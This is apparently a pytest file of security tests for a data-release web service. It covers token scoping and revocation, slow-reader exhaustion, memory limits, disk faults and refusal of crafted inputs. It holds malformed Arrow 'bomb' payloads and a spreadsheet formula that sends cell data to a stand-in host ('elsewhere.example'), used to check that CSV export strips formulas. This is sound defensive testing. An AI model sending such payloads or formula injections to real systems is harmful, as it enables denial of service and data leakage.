"""Attacks on a service, each the smallest that is known: by readers who do not read, writers, and tokens of others."""

import errno
import json
import pickle
import socket
import struct
import subprocess
import sys
import threading
import time
import tracemalloc
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import httpx
import polars as pl
import pyarrow as pa
import pytest
from tests.service.served import asking, begun, shop, until

from pianissimo import Budget, Count, Histogram, Stream
from pianissimo.errors import StoreError
from pianissimo.io.sources.follow import FolderFeed
from pianissimo.service import TokenFile, analyst, serving, viewer_app
from pianissimo.service.analyst import asked_tables
from pianissimo.service.app import operator_app
from pianissimo.service.inbox import Inbox
from pianissimo.service.shelf import Shelf, as_json
from pianissimo.storage import files

ARROW = "application/vnd.apache.arrow.stream"
LABELS = 2_000


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


@pytest.fixture(scope="module")
def large(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A stream whose releases have many labels."""
    found = tmp_path_factory.mktemp("large") / "large"
    labels = [f"a label with a long name {place}" for place in range(LABELS)]
    queries = [Count("visits"), Histogram("cities", key="city", domain=labels)]
    stream = Stream("large", budget=Budget(8, 1e-6), horizon=100, tick="1m", origin="2026-01-01", queries=queries)
    with stream.open(found) as live:
        for _ in range(40):
            live.tick([{"city": labels[0]}])
    return found


def test_a_token_of_an_operator_is_for_its_stream_alone(tmp_path: Path) -> None:
    tokens, stop = TokenFile(tmp_path / "tokens"), threading.Event()
    token, _ = tokens.add("operator", streams=["another"])
    with begun(tmp_path, 1) as live, serving(operator_app(live, stop, str(tmp_path / "shop"), tokens=tokens)) as place:
        answers = [httpx.get(f"{place}/operator/status", headers=bearer(token)).status_code]
        answers.append(httpx.post(f"{place}/operator/stop", headers=bearer(token)).status_code)
    assert (answers, stop.is_set()) == ([404, 404], False)


def asked(place: str, path: str, *headers: str) -> socket.socket:
    """A connection that has sent a request, and takes little of the answer."""
    host, port = place.removeprefix("http://").split(":")
    reader = socket.socket()
    reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    reader.connect((host, int(port)))
    lines = [f"GET {path} HTTP/1.1", f"Host: {host}", "Connection: close", *headers]
    reader.sendall("".join(f"{line}\r\n" for line in [*lines, ""]).encode())
    return reader


def taken(reader: socket.socket) -> bytes:
    """What still comes, until the service ends the connection."""
    reader.settimeout(5)
    came = b""
    while piece := _read(reader):
        came += piece
    return came


@pytest.mark.parametrize("path", ["releases?from=1", "releases?after=0"])
def test_who_asks_and_does_not_read_is_given_up(large: Path, monkeypatch: pytest.MonkeyPatch, path: str) -> None:
    with serving(viewer_app([large], public=True)) as place:
        whole = len(httpx.get(f"{place}/v1/streams/large/releases?from=1").content)
        monkeypatch.setattr("pianissimo.service.protocol.HEAD_SECONDS", 0.3)
        with asked(place, f"/v1/streams/large/{path}") as reader:
            reader.recv(1)
            time.sleep(1)
            came = taken(reader)
    # What the system's buffers took may still come, and no more.
    assert 0 < len(came) < whole


def test_all_that_is_held_for_readers_is_bounded_and_the_slowest_make_room(
    large: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    app, path = viewer_app([large], public=True), "/v1/streams/large/releases?from=1"
    with serving(app) as place, ExitStack() as open_:
        whole = len(httpx.get(f"{place}{path}").content)
        monkeypatch.setattr("pianissimo.service.room.MOST_HELD", 2 * whole)
        lazy = [open_.enter_context(asked(place, path)) for _ in range(6)]
        told = [each.recv(12)[9:] for each in lazy]
        # Some wait with an answer, and some were told to come again.
        assert set(told) <= {b"200", b"503"}
        assert whole <= app.library.room.size <= 2 * whole
        time.sleep(1.1)
        assert len(httpx.get(f"{place}{path}").content) == whole
        assert app.library.room.size <= whole


def _read(reader: socket.socket) -> bytes:
    try:
        return reader.recv(1 << 16)
    except OSError:
        return b""


def test_windows_that_are_kept_take_bounded_memory(large: Path) -> None:
    # A window has 250 kB of JSON; half of the memory is for windows.
    shelf = Shelf(large, memory=512 << 10)
    try:
        for end in range(2, 4):
            shelf.window(1, end)
        tracemalloc.start()
        for end in range(4, 14):
            shelf.window(1, end)
        assert tracemalloc.get_traced_memory()[0] <= 3 << 19
    finally:
        tracemalloc.stop()
        shelf.close()


def test_a_page_of_windows_is_as_small_as_one_of_the_history(large: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("pianissimo.service.viewer.MOST_BYTES", 1 << 20)
    begin, ends = 0, list[int]()
    with asking([large], public=True) as client:
        while begin is not None:
            found = client.get(f"/v1/streams/large/windows?from={begin}&to=24&step=1")
            assert len(found.content) <= (1 << 20) + 1000
            begin, windows = found.json()["next"], found.json()["windows"]
            ends += [each["to"] for each in windows]
            assert all(len(each["releases"]["cities"]) == LABELS for each in windows)
    assert ends == list(range(1, 25))


def _nested(depth: int) -> bytes:
    kind = pa.int32()
    for _ in range(depth):
        kind = pa.struct([("a", kind)])
    output = pa.BufferOutputStream()
    pa.ipc.new_stream(output, pa.schema([("s", kind)])).close()
    return bytes(output.getvalue())


def _stream(column: pa.Array) -> bytes:
    table, output = pa.table({"city": column}), pa.BufferOutputStream()
    with pa.ipc.new_stream(output, table.schema) as writer:
        writer.write_table(table)
    return bytes(output.getvalue())


def _views(rows: int) -> pa.Array:
    """All of one long text that is there once."""
    view = struct.pack("<i4sii", 100_000, b"xxxx", 0, 0)
    buffers = [None, pa.py_buffer(view * rows), pa.py_buffer(b"x" * 100_000)]
    return pa.Array.from_buffers(pa.string_view(), rows, buffers)


BOMBS = {
    "nested": _nested(5_000),
    "one long label": _stream(pa.DictionaryArray.from_arrays(pa.array([0] * 10_000), pa.array(["x" * 100_000]))),
    "views of one long label": _stream(_views(10_000)),
    "a list": _stream(pa.array([["x"]])),
    "runs": _stream(pa.RunEndEncodedArray.from_arrays(pa.array([10_000], pa.int32()), pa.array(["x" * 100_000]))),
    "a buffer that says it is long": _stream(pa.array(["x" * 9_999])).replace(
        struct.pack("<q", 9_999), struct.pack("<q", 2**48)
    ),
    "many nulls": _stream(pa.nulls(9_999)).replace(struct.pack("<q", 9_999), struct.pack("<q", 2**40)),
}

_TAKE = """
import pickle, resource, sys
resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
from pianissimo.errors import InputError
from pianissimo.service.inbox import lines_of
lines_of(b'{"city": "Oslo"}', "application/x-ndjson", None)
for body in pickle.load(sys.stdin.buffer):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    try:
        lines_of(body, "application/vnd.apache.arrow.stream", None)
    except InputError:
        print("refused", (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


def test_arrow_bombs_are_refused_and_kill_nobody() -> None:
    # At most 260 kB each. S6: refused within 16 MiB each; twice that for the reader's own start.
    bodies = pickle.dumps(list(BOMBS.values()))
    done = subprocess.run([sys.executable, "-c", _TAKE], input=bodies, capture_output=True, timeout=60, check=False)
    assert done.returncode == 0, f"killed by {-done.returncode}"
    told = dict(zip(BOMBS, done.stdout.decode().splitlines(), strict=True))
    assert all(line.startswith("refused ") and int(line.split()[1]) <= 48 for line in told.values()), told


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    folder = tmp_path_factory.mktemp("formulas")
    with shop().open(folder / "shop") as live:
        live.tick([{"city": '=HYPERLINK("http://elsewhere.example/"&A1)', "price": 1}] * 5000)
    with asking([folder / "shop"], public=True) as client:
        yield client


def test_the_history_as_csv_has_no_formula(formulas: httpx.Client) -> None:
    told = formulas.get("/v1/streams/shop/releases?query=cities&format=csv").text
    rows = pl.read_csv(told.encode()).to_dicts()
    assert any("HYPERLINK" in str(row) for row in rows)
    assert not [value for row in rows for value in row.values() if isinstance(value, str) and value[0] in "=+-@"]


def test_a_revoked_token_is_sent_no_more_of_what_is_behind(large: Path, tmp_path: Path) -> None:
    tokens = TokenFile(tmp_path / "tokens")
    token, grant = tokens.add("viewer")
    with serving(viewer_app([large], tokens=tokens)) as place, httpx.Client(base_url=place, timeout=20) as client:
        path, head = "/v1/streams/large/releases?after=0", f"Authorization: Bearer {token}"
        with asked(place, path, head) as reader:
            reader.recv(4096)
            tokens.revoke(grant.id)
            until(client, "/v1/streams", bearer(token), 401, 429)
            came = taken(reader)
    # What the system's buffers had taken by then may still come: a few of 40.
    assert b"id: 40\n" not in came


def test_a_store_that_hangs_keeps_no_revoked_token_alive(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    begun(tmp_path, 1).close()
    tokens = TokenFile(tmp_path / "tokens")
    token, grant = tokens.add("viewer")
    hangs = threading.Event()
    monkeypatch.setattr(Shelf, "look", lambda _: hangs.wait(60))
    with asking([tmp_path / "shop"], tokens=tokens) as client:
        try:
            before = client.get("/v1/streams", headers=bearer(token)).status_code
            tokens.revoke(grant.id)
            until(client, "/v1/streams", bearer(token), 401)
        finally:
            hangs.set()
    assert before == 200


def test_who_sends_a_question_again_while_it_is_asked_waits_for_its_answer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    begun(tmp_path, 1).close()
    rows = [{"member": f"member {m}", "article": a} for m in range(3000) for a in ("tea", "rain")[: 1 + m % 2]]
    pl.DataFrame(rows).write_parquet(tmp_path / "clicks.parquet")
    table = '[clicks]\nsource = "clicks.parquet"\nuser = "member"\nepsilon = 2\ndelta = 1e-8\n'
    (tmp_path / "tables.toml").write_text(table)
    tokens = TokenFile(tmp_path / "tokens")
    token, _ = tokens.add("analyst")

    put = analyst._put

    def slow(*args: Any) -> Any:
        """As a database that takes its time."""
        found = put(*args)
        time.sleep(0.5)
        return found

    monkeypatch.setattr(analyst, "_put", slow)
    question = {"kind": "top_k", "column": "article", "k": 2, "at_most": 100}
    with asking([tmp_path / "shop"], tokens=tokens, tables=asked_tables(tmp_path / "tables.toml")) as client:

        def ask(is_second: bool) -> httpx.Response:
            while is_second and not list((tmp_path / "tables.answers" / "clicks").glob("*.json")):
                time.sleep(0.01)
            headers = {**bearer(token), "Idempotency-Key": "one"}
            return client.post("/v1/streams/clicks/questions", json=question, headers=headers)

        with ThreadPoolExecutor(2) as threads:
            first, second = threads.map(ask, (False, True))
    assert first.status_code == 200
    assert "cut off" not in second.text
    assert json.loads(second.content) == json.loads(first.content)


def test_an_address_of_ipv6_is_a_host_like_any_other(tmp_path: Path) -> None:
    begun(tmp_path, 1).close()
    with asking([tmp_path / "shop"], public=True, hosts=["FD00:0::1"]) as client:
        told = [
            client.get("/v1/streams", headers={"Host": each}).status_code for each in ("[fd00::1]:8080", "[fd00::2]")
        ]
    assert told == [200, 421]


def test_a_fault_of_the_disk_makes_no_file_shorter_that_is_followed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    inbox, feed = Inbox(tmp_path), FolderFeed(tmp_path, format="jsonl")
    feed.seek(None)

    def read() -> list[str]:
        return [text for records in feed.read(feed.end()) for text in records.texts]

    def fails_after_a_look(_: int) -> None:
        got.extend(read())
        raise files.FailedSyncError(5, "no disk")

    inbox.put(b'{"a": 1}\n')
    got = read()
    with monkeypatch.context() as patch:
        patch.setattr(files, "sync", fails_after_a_look)
        with pytest.raises(StoreError):
            inbox.put(b'{"a": 2}\n')
    inbox.put(b'{"a": 3}\n')
    got += read()
    feed.close()
    assert got == ['{"a": 1}', '{"a": 2}', '{"a": 3}']


def test_a_full_disk_makes_no_file_for_each_request(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    inbox = Inbox(tmp_path)
    inbox.put(b'{"a": 1}\n')

    def full(_: int, __: bytes) -> None:
        raise OSError(errno.ENOSPC, "no room")

    with monkeypatch.context() as patch:
        patch.setattr(files, "write_all", full)
        for _ in range(20):
            with pytest.raises(StoreError):
                inbox.put(b'{"a": 2}\n')
    inbox.put(b'{"a": 3}\n')
    assert [each.read_bytes() for each in tmp_path.iterdir()] == [b'{"a": 1}\n{"a": 3}\n']


def test_an_answer_is_json_that_every_reader_takes() -> None:
    with pytest.raises(ValueError, match="not JSON compliant"):
        as_json({"low": float("-inf")})
